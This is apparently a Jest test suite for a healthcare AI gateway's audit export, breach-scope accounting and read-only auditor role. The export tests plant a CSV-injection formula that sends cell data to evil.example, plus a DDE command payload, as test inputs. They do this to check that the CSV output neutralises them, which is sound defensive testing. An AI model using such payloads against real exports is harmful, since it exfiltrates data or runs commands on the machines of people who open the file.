import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { call, startAdministration, type Administration, type Answer } from './administration.js';
import { chat, errorOf } from './requests.js';
import { takeIn, type OwnTenant } from './trail.js';

jest.setTimeout(180_000);

const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"open, please")';

let administration: Administration;
beforeAll(async () => {
  administration = await startAdministration();
});
afterAll(() => administration.close());

const tenantWithKey = async (name: string, phi_config?: object): Promise<OwnTenant & { key: string }> => {
  const tenant = await takeIn(administration, name);
  if (phi_config) await tenant.ask('PATCH', `/tenants/${tenant.id}`, { phi_config });
  const { data } = await tenant.ask('POST', `/tenants/${tenant.id}/api-keys`, { name: 'key' });
  return { ...tenant, key: data.key };
};
const DISABLED = {
  mode: 'disabled',
  categories: {},
  reidentification: { allowed: true, requires_approval: false, mapping_ttl_hours: 24 },
};

describe('an export', () => {
  let tenant: OwnTenant;
  let rows: number;
  beforeAll(async () => {
    tenant = await takeIn(administration, 'exported');
    await administration.call('GET', `/api/v2/tenants/${tenant.id}`, {
      as: administration.root,
      headers: { 'user-agent': FORMULA },
    });
    await tenant.ask('PATCH', `/tenants/${tenant.id}`, { name: '@SUM(1+1)*cmd|"/C calc"!A0' });
    await tenant.sealed();
    rows = 3;
  });
  const exported = async (format: string): Promise<{ lines: string[]; answer: Answer }> => {
    const answer = await tenant.ask('GET', `/audit/export?format=${format}`);
    expect(answer.status).toBe(200);
    rows += 1; // the export itself, before its first row
    return { lines: answer.text.trimEnd().split(/\r?\n/), answer };
  };

  it('is JSON Lines with all that the hashes cover', async () => {
    const { lines } = await exported('jsonl');
    expect(lines).toHaveLength(rows);
    const [first, second] = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(first).toMatchObject({
      tenantId: tenant.id,
      sequence: 1,
      contentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      content: { action: 'tenant.create', crossTenant: true, body: expect.any(String) },
      opened: { ip: '127.0.0.1' },
    });
    expect(second).toMatchObject({ sequence: 2, content: { action: 'tenant.read' }, opened: { userAgent: FORMULA } });
  });

  it('is CSV in which no cell is a formula', async () => {
    const { answer } = await exported('csv');
    const [header = [], ...records] = cells(answer.text);
    expect(records).toHaveLength(rows);
    for (const record of records) {
      expect(record).toHaveLength(header.length);
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const agents = records.map((record) => record[header.indexOf('user_agent')]);
    expect(agents).toContain(`'${FORMULA}`);
    expect(records.map((record) => record[header.indexOf('action')])).toContain('tenant.update');
  });

  it('is OCSF, an event of class 6003 a line', async () => {
    const { lines } = await exported('ocsf');
    expect(lines).toHaveLength(rows);
    for (const line of lines) {
      expect(JSON.parse(line)).toMatchObject({ class_uid: 6003, metadata: { tenant_uid: tenant.id } });
    }
  });

  it('is syslog, a message a line', async () => {
    const { lines } = await exported('syslog');
    expect(lines).toHaveLength(rows);
    for (const line of lines)
      expect(line).toMatch(/^<1\d\d>1 \d{4}-\S+Z - radiant - [a-z_.]+ \[radiant@32473 .*\] \{.*\}$/);
  });

  it('obeys the filters, has no other format, and is of one tenant', async () => {
    const { text } = await tenant.ask('GET', '/audit/export?action=tenant.create');
    expect(text.trimEnd().split('\n')).toHaveLength(1);
    const bad = await tenant.ask('GET', '/audit/export?format=xml');
    expect([bad.status, errorOf(bad)['details']]).toEqual([400, { field: 'format' }]);
    const own = await administration.call('GET', '/api/v2/audit/export', { as: administration.root });
    expect(own.text).not.toContain(tenant.id);
  });
});

describe('the scope of a breach', () => {
  const period = `provider_id=demo&from=2020-01-01T00:00:00Z&to=2100-01-01T00:00:00Z`;

  it('tells who sent what to a provider, and whether it was in the clear', async () => {
    const { gateway } = administration;
    const [hidden, open] = [await tenantWithKey('hides'), await tenantWithKey('shows all', DISABLED)];
    for (const { key } of [hidden, open]) {
      for (let time = 0; time < 2; time += 1) expect((await chat(gateway.url, key)).status).toBe(200);
    }
    const scope = async ({ ask }: OwnTenant): Promise<unknown> =>
      (await ask('GET', `/audit/breach-scope?${period}`)).data;
    expect(await scope(hidden)).toEqual({
      tenants: [
        {
          tenantId: hidden.id,
          calls: 2,
          disclosingCalls: 0,
          subjects: 2,
          crowdedCalls: 0,
          categories: { NAME: 2, MEDICAL_RECORD: 2 },
        },
      ],
    });
    expect(await scope(open)).toMatchObject({ tenants: [{ tenantId: open.id, calls: 2, disclosingCalls: 2 }] });
    const { data } = await administration.call('GET', `/api/v2/audit/breach-scope?${period}`, {
      as: administration.root,
    });
    expect(data.tenants.map(({ tenantId }: { tenantId: string }) => tenantId)).toEqual(
      expect.arrayContaining([hidden.id, open.id]),
    );
    const none = await hidden.ask('GET', `/audit/breach-scope?${period.replace('demo', 'other')}`);
    expect(none.data.tenants).toEqual([]);
  });

  it('counts the people concerned by what was sent in the clear, and their accounting of disclosures shows it', async () => {
    const { gateway } = administration;
    const [hidden, open] = [await tenantWithKey('accounts'), await tenantWithKey('accounts in the clear', DISABLED)];
    for (const { key } of [hidden, open]) expect((await chat(gateway.url, key)).status).toBe(200);
    const found = async ({ ask }: OwnTenant, value: string): Promise<number> =>
      (await ask('POST', '/disclosures/search', { category: 'MEDICAL_RECORD', value })).data.records.length;
    expect(await found(hidden, '00482913')).toBe(0); // placeholders are no disclosure
    expect(await found(open, '11111111')).toBe(0);
    expect(await found(open, '00482913')).toBe(1);
    const scope = await open.ask('GET', `/audit/breach-scope?${period}`);
    expect(scope.data.tenants).toMatchObject([{ subjects: 2, categories: { NAME: 1, MEDICAL_RECORD: 1 } }]);
  });

  it.each([
    ['ACCOUNT', 'Her account number is 4471223998.', '4471223998'],
    ['FAX', 'Her fax number is (415) 555-0132.', '4155550132'],
  ])(
    'accounts for %s that left in the clear, and refuses a category that nobody is accounted by',
    async (category, text, value) => {
      const open = await tenantWithKey(`in the clear: ${category}`, DISABLED);
      expect((await chat(administration.gateway.url, open.key, text)).status).toBe(200);
      const found = await open.ask('POST', '/disclosures/search', { category, value });
      expect(found.data.records).toMatchObject([
        { action: 'inference.call', phiDisclosed: true, phi: { [category]: 1 } },
      ]);
      const mistyped = await open.ask('POST', '/disclosures/search', { category: 'MRN', value });
      expect([mistyped.status, errorOf(mistyped)['details']]).toEqual([400, { field: 'category' }]);
    },
  );

  it.each([
    ['ADDRESS', 'She lives at 12 Oak Street, Springfield, IL 62704.'],
    ['DOB', 'Her date of birth is 03/12/1961.'],
    ['DATE', 'She was admitted on 3 March 2025.'],
    ['URL', 'Her page is https://janes-pages.example.org/about.'],
    ['IP', 'She wrote from 203.0.113.77.'],
  ])('counts %s that left in the clear', async (category, text) => {
    const open = await tenantWithKey(`in the clear: ${category}`, DISABLED);
    expect((await chat(administration.gateway.url, open.key, text)).status).toBe(200);
    const scope = await open.ask('GET', `/audit/breach-scope?${period}`);
    expect(scope.data.tenants).toMatchObject([{ calls: 1, disclosingCalls: 1, categories: { [category]: 1 } }]);
  });

  it('says in the row and in the accounting that not everybody of a long list is kept', async () => {
    const open = await tenantWithKey('a long list', DISABLED);
    const many = Array.from({ length: 70 }, (_, n) => `SSN ${219 + n}-09-${4000 + n}`).join('\n');
    expect((await chat(administration.gateway.url, open.key, many)).status).toBe(200);
    const [row] = await open.records('?action=inference.call');
    expect(row).toMatchObject({ phi: { SSN: 70 }, details: { subjectsLeftOut: 6 } });
    const last = { category: 'SSN', value: `${219 + 69}-09-${4000 + 69}` };
    const { data } = await open.ask('POST', '/disclosures/search', last);
    expect(data).toEqual({ records: [], crowdedCalls: 1 });
    const scope = await open.ask('GET', `/audit/breach-scope?${period}`);
    expect(scope.data.tenants).toMatchObject([{ subjects: 64, crowdedCalls: 1, categories: { SSN: 70 } }]);
  });

  it('keeps what was searched for nowhere', async () => {
    const tenant = await takeIn(administration, 'searches');
    await tenant.ask('POST', '/disclosures/search', { category: 'SSN', value: '219-09-9999' });
    const [record] = await tenant.records('?action=disclosure.read');
    expect(record?.details).toEqual({ category: 'SSN', found: 0 });
    expect((await tenant.records()).map((each) => JSON.stringify(each)).join()).not.toContain('219-09-9999');
    expect([...administration.logLines, ...administration.gateway.logLines].join()).not.toContain('219-09-9999');
  });

  it.each([
    ['provider_id', 'from=2020-01-01&to=2021-01-01'],
    ['from', 'provider_id=demo&to=2021-01-01'],
    ['to', 'provider_id=demo&from=2020-01-01'],
    ['to', 'provider_id=demo&from=2021-01-01&to=2020-01-01'],
  ])('is asked for with a good %s only: %s', async (field, query) => {
    const answer = await administration.call('GET', `/api/v2/audit/breach-scope?${query}`, { as: administration.root });
    expect([answer.status, errorOf(answer)['details']]).toEqual([400, { field }]);
  });

  it.each([
    ['category', { value: '1' }],
    ['category', { category: 'shoe size', value: '1' }],
    ['value', { category: 'SSN', value: '' }],
    ['value', { category: 'SSN', value: ' - ' }],
    ['limit', { category: 'SSN', value: '219-09-9999', limit: null }],
    ['page', { category: 'SSN', value: '219-09-9999', page: null }],
  ])('and disclosures with a good %s: %j', async (field, body) => {
    const answer = await administration.call('POST', '/api/v2/disclosures/search', { as: administration.root, body });
    expect([answer.status, errorOf(answer)['details']]).toEqual([400, { field }]);
  });
});

describe('an auditor', () => {
  it('reads all of his tenant and changes nothing', async () => {
    const { gateway } = administration;
    const tenant = `/api/v2/tenants/${gateway.clinic.id}`;
    const as = await gateway.token({ userId: 'auditor', groups: ['auditor'] });
    const lists = ['api-keys', 'app-users', 'invitations', 'legal-holds'].map((list) => `${tenant}/${list}`);
    const others = ['audit', 'audit/export', 'break-glass', 'access-review', 'apps', 'tenants'];
    for (const path of [tenant, ...lists, ...others.map((route) => `/api/v2/${route}`)]) {
      expect([path, (await administration.call('GET', path, { as })).status]).toEqual([path, 200]);
    }
    const tables = [
      'tenants',
      'api_keys',
      'invitations',
      'legal_holds',
      'token_revocations',
      'apps',
      'break_glass_grants',
    ];
    const state = (): Promise<unknown[]> =>
      Promise.all(tables.map((name) => gateway.sql(`select * from ${name} order by id`)));
    const before = await state();
    const changes: [method: string, path: string, body: object][] = [
      ['PATCH', tenant, { name: 'audited' }],
      ['POST', `${tenant}/api-keys`, { name: 'audited' }],
      ['POST', `${tenant}/invitations`, { app_id: 'default', address: 'a@b.example' }],
      ['POST', `${tenant}/legal-holds`, { reason: 'a letter has come' }],
      ['POST', `${tenant}/token-revocations`, { user_id: 'auditor' }],
      ['POST', `${tenant}/data-keys/shred`, { scope: 'tenant', confirm: gateway.clinic.id }],
      ['POST', '/api/v2/audit/purge', { retention_class: 'access', before: '2015-01-01T00:00:00Z' }],
      ['POST', '/api/v2/apps', { id: 'audited', name: 'audited' }],
      ['POST', '/api/v2/break-glass', { reason: 'an emergency, the chart is needed' }],
    ];
    for (const [method, path, body] of changes) {
      expect([path, (await administration.call(method, path, { as, body })).status]).toEqual([path, 403]);
    }
    expect((await call(gateway.url, 'GET', '/api/v2/usage', { as })).status).toBe(200);
    expect(await state()).toEqual(before);
  });
});

/** Records of RFC 4180. */
function cells(text: string): string[][] {
  const records: string[][] = [];
  for (const record of text.trimEnd().split('\r\n')) {
    const fields = [...`${record},`.matchAll(/(?:"((?:[^"]|"")*)"|([^",]*)),/g)];
    records.push(fields.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? ''));
  }
  return records;
}
